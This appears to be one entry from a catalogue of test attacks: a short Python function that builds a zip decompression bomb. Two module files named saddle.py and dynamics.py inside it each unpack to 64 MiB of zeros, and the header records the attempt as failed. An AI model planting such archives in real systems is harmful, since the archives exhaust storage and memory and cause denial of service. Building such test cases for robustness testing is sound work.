# attack: a module that unpacks to a thousand times its size
# kind: archive
# grade: 1.b
# outcome: none, failed
# module: saddle

import zipfile


def build(folder, targets):
    path = folder / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name in ("saddle.py", "dynamics.py"):
            with archive.open(name, "w") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
    return path
